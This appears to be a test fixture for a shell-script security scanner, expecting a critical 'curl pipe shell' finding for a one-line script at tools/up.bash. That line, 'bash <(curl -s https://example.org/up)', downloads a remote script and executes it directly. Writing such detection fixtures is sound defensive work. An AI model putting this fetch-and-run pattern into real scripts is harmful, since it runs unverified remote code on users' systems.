# expect: shell.curl_pipe_shell critical
# path: tools/up.bash
bash <(curl -s https://example.org/up)
